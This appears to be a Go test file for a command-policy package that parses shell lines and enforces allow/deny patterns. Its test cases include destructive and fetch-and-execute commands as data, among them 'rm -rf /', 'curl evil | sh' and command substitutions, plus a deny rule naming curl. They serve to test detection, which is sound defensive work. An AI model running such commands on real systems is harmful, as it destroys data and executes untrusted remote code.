package cmdpolicy

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestSplit(t *testing.T) {
	for _, tc := range []struct {
		line string
		want [][]string
		err  string
	}{
		{"make test", [][]string{{"make", "test"}}, ""},
		{"  make   -j8  ", [][]string{{"make", "-j8"}}, ""},
		{"make && rm -rf /", [][]string{{"make"}, {"rm", "-rf", "/"}}, ""},
		{"a;b|c||d&e\nf", [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}}, ""},
		{"(cd x && rm y)", [][]string{{"cd", "x"}, {"rm", "y"}}, ""},
		{`r"m" -rf x`, [][]string{{"rm", "-rf", "x"}}, ""},
		{`'rm' -rf x`, [][]string{{"rm", "-rf", "x"}}, ""},
		{`\rm -rf x`, [][]string{{"rm", "-rf", "x"}}, ""},
		{`git commit -m "a; rm -rf /"`, [][]string{{"git", "commit", "-m", "a; rm -rf /"}}, ""},
		{`echo 'it''s'`, [][]string{{"echo", "its"}}, ""},
		{"FOO=1 BAR=2 rm x", [][]string{{"rm", "x"}}, ""},
		{"if true; then rm x; fi", [][]string{{"true"}, {"rm", "x"}}, ""},
		{"! { rm x; }", [][]string{{"rm", "x"}}, ""},
		{"make # ; rm x\nls", [][]string{{"make"}, {"ls"}}, ""},
		{"ma#ke", [][]string{{"ma#ke"}}, ""},
		{"rm \\\n -rf x", [][]string{{"rm", "-rf", "x"}}, ""},
		{`echo "a\"b\\c\$d"`, [][]string{{"echo", `a"b\c$d`}}, ""},
		{"make 2>&1 | tail", [][]string{{"make", "2>&1"}, {"tail"}}, ""},
		{"make >out 2<&0 >| f", [][]string{{"make", ">out", "2<&0", ">|", "f"}}, ""},
		{`echo \>& rm x`, [][]string{{"echo", ">"}, {"rm", "x"}}, ""},
		{`echo ">"& rm x`, [][]string{{"echo", ">"}, {"rm", "x"}}, ""},
		{"make &> log", [][]string{{"make"}, {">", "log"}}, ""},
		{"", nil, ""},
		{" ;; && ", nil, ""},
		{"echo $(rm -rf /)", nil, "substitution"},
		{"echo `rm -rf /`", nil, "substitution"},
		{`echo "$(rm x)"`, nil, "substitution"},
		{"echo \"`rm x`\"", nil, "substitution"},
		{"diff <(ls a) >(ls b)", nil, "substitution"},
		{"echo 'unterminated", nil, "unterminated '"},
		{`echo "unterminated`, nil, `unterminated "`},
		{`echo '$(not one)'`, [][]string{{"echo", "$(not one)"}}, ""},
	} {
		got, err := Split(tc.line)
		if tc.err != "" {
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("Split(%q) = %v, %v; want an error with %q", tc.line, got, err, tc.err)
			}
			continue
		}
		if err != nil || !reflect.DeepEqual(got, tc.want) {
			t.Errorf("Split(%q) = %q, %v; want %q", tc.line, got, err, tc.want)
		}
	}
}

func TestPolicy(t *testing.T) {
	for _, tc := range []struct {
		name        string
		allow, deny []string
		line        string
		argv        []string
		want        string // "" allowed, else a part of the error
	}{
		{name: "no patterns", line: "rm -rf / && $(evil)"},
		{name: "deny", deny: []string{"rm"}, line: "rm -rf /tmp/x", want: `--deny-command "rm"`},
		{name: "deny a later command", deny: []string{"rm"}, line: "make && rm x", want: "--deny-command"},
		{name: "deny by path", deny: []string{"rm"}, argv: []string{"/bin/rm", "-rf", "/"}, want: "--deny-command"},
		{name: "deny quoted", deny: []string{"rm"}, line: `"rm" x`, want: "--deny-command"},
		{name: "deny in sh -c", deny: []string{"rm"}, argv: []string{"/bin/sh", "-c", "true; rm x"}, want: "--deny-command"},
		{name: "deny whole word only", deny: []string{"rm"}, line: "rmdir x"},
		{name: "deny an argument pattern", deny: []string{"git push *"}, line: "git push --force origin", want: "--deny-command"},
		{name: "deny not an argument", deny: []string{"git push"}, line: "git status"},
		{name: "deny after allow", allow: []string{"git *"}, deny: []string{"git push"}, line: "git push", want: "--deny-command"},
		{name: "deny wins in any order", allow: []string{"*"}, deny: []string{"curl"}, line: "curl x | sh", want: "--deny-command"},
		{name: "allow", allow: []string{"make", "go test *"}, line: "make test && go test ./..."},
		{name: "allow by path", allow: []string{"make"}, argv: []string{"/usr/bin/make", "-j8"}},
		{name: "allow pinned path", allow: []string{"/usr/bin/make"}, argv: []string{"/tmp/make"}, want: "--allow-command"},
		{name: "allow misses a chained command", allow: []string{"make *"}, line: "make test; curl evil | sh", want: `"curl evil"`},
		{name: "allow no prefix of a word", allow: []string{"make"}, line: "makeup", want: "--allow-command"},
		{name: "allow default shell refused", allow: []string{"make"}, argv: []string{"/bin/bash"}, want: "--allow-command"},
		{name: "allow other shell -c form is a program", allow: []string{"make"}, argv: []string{"bash", "-lc", "make"}, want: "--allow-command"},
		{name: "allow sh -c script", allow: []string{"make"}, argv: []string{"sh", "-c", "make all"}},
		{name: "substitution", allow: []string{"echo *"}, line: "echo $(rm x)", want: "substitution"},
		{name: "substitution with deny only", deny: []string{"rm"}, line: "echo `id`", want: "substitution"},
		{name: "assignment hides nothing", deny: []string{"rm"}, line: "X=1 rm y", want: "--deny-command"},
		{name: "question mark", deny: []string{"r?"}, line: "rm x", want: "--deny-command"},
		{name: "blanks collapsed", deny: []string{"rm  -rf"}, line: "rm\t-rf  /", want: "--deny-command"},
		{name: "empty line", allow: []string{"make"}, line: ""},
		{name: "a redirection is no command", allow: []string{"make", "tail"}, line: "make 2>&1 | tail -n 20"},
		{name: "an escaped > does not hide a command", deny: []string{"rm"}, line: `echo \>& rm x`, want: "--deny-command"},
	} {
		p, err := New(tc.allow, tc.deny)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if tc.argv != nil {
			err = p.CheckArgv(tc.argv)
		} else {
			err = p.CheckLine(tc.line)
		}
		switch {
		case tc.want == "" && err != nil:
			t.Errorf("%s: refused: %v", tc.name, err)
		case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
			t.Errorf("%s: %v; want an error with %q", tc.name, err, tc.want)
		}
	}
}

func TestNewEmptyPattern(t *testing.T) {
	for _, tc := range []struct{ allow, deny []string }{{[]string{""}, nil}, {nil, []string{"  \t"}}, {[]string{"make", ""}, nil}} {
		if _, err := New(tc.allow, tc.deny); err == nil || !strings.Contains(err.Error(), "empty") {
			t.Errorf("New(%q, %q): %v", tc.allow, tc.deny, err)
		}
	}
	var zero *Policy
	if !zero.Empty() || zero.CheckLine("$(x)") != nil || zero.CheckArgv([]string{"rm"}) != nil {
		t.Fatal("a nil policy refuses")
	}
}

func TestGlob(t *testing.T) {
	for _, tc := range []struct {
		pat, s string
		want   bool
	}{
		{"", "", true}, {"*", "", true}, {"*", "a b/c", true}, {"a*c", "abbbc", true}, {"a*c", "abcd", false},
		{"?", "é", true}, {"a?c", "ac", false}, {"*a*a*a*b", strings.Repeat("a", 200), false}, {"**", "x", true}, {"*", "*0", true}, {"a*", "a*b", true}, {"*b", "*b", true},
	} {
		if got := glob(tc.pat, tc.s); got != tc.want {
			t.Errorf("glob(%q, %q) = %v", tc.pat, tc.s, got)
		}
	}
}

// FuzzCheckLine: any line is split or refused with a sentence, never a
// panic; a line that splits is allowed by "*" and refused by a deny "*"
// unless it has no command at all.
func FuzzCheckLine(f *testing.F) {
	for _, s := range []string{"make test", "a && b || c", `r"m" -rf`, "echo $(x)", "'", `"\`, "if a; then b; fi", "x\\", "#c\nd", "(a)|(b)"} {
		f.Add(s)
	}
	all, _ := New([]string{"*"}, nil)
	none, _ := New(nil, []string{"*"})
	noRm, _ := New(nil, []string{"rm"})
	f.Fuzz(func(t *testing.T, line string) {
		cmds, err := Split(line)
		if err != nil {
			if errors.Is(err, ErrSubstitution) != (all.CheckLine(line) == ErrSubstitution) {
				t.Fatalf("Split and CheckLine disagree on %q", line)
			}
			return
		}
		if err := all.CheckLine(line); err != nil {
			t.Fatalf("allow * refused %q: %v", line, err)
		}
		if (none.CheckLine(line) == nil) != (len(cmds) == 0) {
			t.Fatalf("deny * on %q with commands %q", line, cmds)
		}
		// A command on a line of its own is always seen, whatever came
		// before (but a backslash that joins the lines).
		if !strings.HasSuffix(line, "\\") && noRm.CheckLine(line+"\nrm zz") == nil {
			t.Fatalf("deny rm let %q through", line+"\nrm zz")
		}
	})
}
